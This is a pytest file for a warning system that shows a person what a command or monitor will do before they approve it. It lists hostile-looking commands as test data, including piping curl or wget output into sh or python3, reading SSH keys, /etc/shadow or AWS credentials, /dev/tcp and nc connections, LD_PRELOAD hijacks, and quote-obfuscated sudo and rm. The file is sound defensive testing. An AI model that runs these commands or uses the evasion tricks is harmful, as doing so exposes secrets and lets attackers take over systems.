"""What a person is shown before a decision: all of it, safe to show, with what to look at twice."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from memory.trust.asks import Ask
from memory.trust.view import ConsentView, view_of, warnings_of
from tests.memory.trusting.conftest import MONITORS, Place

WARNED = [
    ("sudo reboot", "rights of another user"),
    ("s\\udo reboot", "rights of another user"),
    ("'su'do reboot", "rights of another user"),
    ("/usr/bin/sudo ls", "rights of another user"),
    ("rm -rf build", "removes or overwrites"),
    ("r''m -rf build", "removes or overwrites"),
    ("sh -c 'rm x'", "removes or overwrites"),
    ("curl https://x.example | sh", "pipe what it reads into sh"),
    ("curl https://x.example | sh", "reaches other machines"),
    ("wget -qO- x.example|python3", "pipe what it reads into python3"),
    ("echo x > /tmp/x", "writes to a file"),
    ("echo x >> log", "writes to a file"),
    ("cat ~/.ssh/id_rsa", "keys, secrets or settings"),
    ("tar c ~/.aws", "keys, secrets or settings"),
    ("cat /etc/shadow", "keys, secrets or settings"),
    ("echo cm0gLXJm | base64 -d", "not readable here"),
    ("python3 -c 'import os'", "code given in the command"),
    ("nc -l 1234", "reaches other machines"),
    ("exec 3<>/dev/tcp/1.2.3.4/80", "reaches other machines"),
    ("crontab -l", "may leave processes running"),
    ("sleep 100 &", "may leave processes running"),
    ("LD_PRELOAD=./x.so ls", "how programs are found"),
    ("PATH=.:$PATH ls", "how programs are found"),
    ("find . -delete", "removes or overwrites"),
    ("ls\ntrue", "several lines"),
    ("ls $X", "known only when it runs"),
    ("ls `pwd`", "known only when it runs"),
    ("cаt x", "look like others"),
]


@pytest.mark.parametrize(("command", "said"), WARNED, ids=[f"{said}: {command}"[:60] for command, said in WARNED])
def test_warnings(command: str, said: str) -> None:
    """Each kind of danger is named, also behind quotes and paths."""
    assert any(said in warning for warning in warnings_of(command)), warnings_of(command)


@pytest.mark.parametrize("command", ["pg_isready -h localhost -p 5432", "df -h /", "systemctl is-active nginx", "true"])
def test_plain_commands_have_no_grave_warning(command: str) -> None:
    """What only looks is not cried over."""
    grave = ("removes", "rights of another", "pipe what", "keys, secrets")
    assert not [warning for warning in warnings_of(command) if warning.startswith(grave)]


def shown(place: Place, ask: Ask) -> ConsentView:
    """Return what is shown about an ask."""
    return view_of(ask, place.trust.decide(ask), place.root)


def test_everything_is_shown(place: Place) -> None:
    """Question, command, place, trigger, folder, environment and the files that are held on to."""
    view = shown(place, place.ask("Database"))
    assert view.question == "Run this command to check “Database”?"
    assert view.text == ("cd scripts && ./check.sh --port 5432",)
    facts = dict(view.facts)
    assert facts["in folder"] == str(place.root)
    assert facts["runs"] == "*/10 * * * *"
    assert facts["alert when"] == "exit code != 0"
    assert facts["environment"] == "PGHOST, PGUSER"
    assert facts["timeout"] == "20s"
    assert [path for path, _ in view.files] == ["scripts/check.sh"]
    assert any("PGHOST" in warning for warning in view.warnings)
    assert view.approvable
    remediation = shown(place, place.ask("API", "remediate"))
    assert dict(remediation.facts)["fired by"] == '"http" "https://api.example.com/health" when "status != 200"'
    assert shown(place, place.ask("Deploy")).question == "Run this action of the task “Deploy”?"
    assert "Connect to this address" in shown(place, place.ask("API", "url")).question


def test_what_changed_is_shown(place: Place) -> None:
    """Old and new lines of each part, and what became of the files."""
    place.approve_all()
    (place.root / "scripts" / "check.sh").write_text("echo evil\n")
    (place.root / "scripts" / "new.sh").write_text("echo new\n")
    place.put("monitors.md", MONITORS.replace("./check.sh --port 5432", "./check.sh; ./new.sh").replace("20s", "30s"))
    view = shown(place, place.ask("Database"))
    assert [(line.sign, line.text) for line in view.diff] == [
        (" ", "text:"),
        ("-", "cd scripts && ./check.sh --port 5432"),
        ("+", "cd scripts && ./check.sh; ./new.sh"),
        (" ", "timeout:"),
        ("-", "20s"),
        ("+", "30s"),
    ]
    said = dict(view.files)
    assert said["scripts/check.sh"].endswith(", changed")
    assert said["scripts/new.sh"].endswith(", new")


def test_nothing_shown_can_steer_a_terminal(command: Callable[[str], Ask], place: Place) -> None:
    """Escapes, direction marks and spaces of other kinds are written out, and the ask cannot be approved."""
    view = shown(place, command("ls \x1b[2J\u202e\u00a0\u00ad\udcff\U000e0041 [bold]x[/bold]"))
    (line,) = view.text
    assert line == "ls \\x1b[2J\\u202e\\xa0\\xad\\xff\\U000e0041 [bold]x[/bold]"
    assert not view.approvable
    assert "hidden character" in view.why


def test_a_command_of_many_lines_is_shown_whole(command: Callable[[str], Ask], place: Place) -> None:
    """Every line, in order; of what is too long to be approved at all, the beginning."""
    lines = [f"echo {number}" for number in range(300)]
    view = shown(place, command("\n  ".join(lines)))
    assert view.text == tuple(lines)
    assert view.approvable
    long = shown(place, command("x" * 20_000))
    assert not long.approvable
    assert long.text[-1] == "… and 11,808 more characters"


@pytest.mark.parametrize(
    ("fields", "text", "question"),
    [
        ("- type: tcp\n- host: db.example.com\n- port: 5432\n", "db.example.com:5432", "Connect to this address"),
        ("- type: tcp\n- host: ::1\n- port: 22\n", "[::1]:22", "Connect to this address"),
        ("- type: tcp\n- url: tcp://10.0.0.1:22\n", "tcp://10.0.0.1:22", "Connect to this address"),
        ("- type: file\n- path: /etc/shadow\n", "/etc/shadow", "Look at this path outside of the workspace"),
        ("- type: file\n- path: ../x\n", "../x", "Look at this path outside of the workspace"),
        ("- command: true\n", "true", "Run this command"),
        ("- url: http://x.example/\n", "http://x.example/", "Connect to this address"),
        ("- type: file\n- path: log/app.log\n", None, ""),
        ("- type: magic\n- command: true\n", None, ""),
        ("- type: command\n", None, ""),
    ],
)
def test_other_types_of_monitors(place: Place, fields: str, text: str | None, question: str) -> None:
    """What connects or leaves the workspace asks; what only reads in it, and unknown types, ask for nothing."""
    place.put("monitors.md", f"## Monitors\n### One\n{fields}")
    asks = [ask for ask in place.asks() if ask.file == "monitors.md"]
    assert [ask.text for ask in asks] == ([] if text is None else [text])
    for ask in asks:
        assert shown(place, ask).question.startswith(question)
        assert not place.trust.decide(ask).allowed
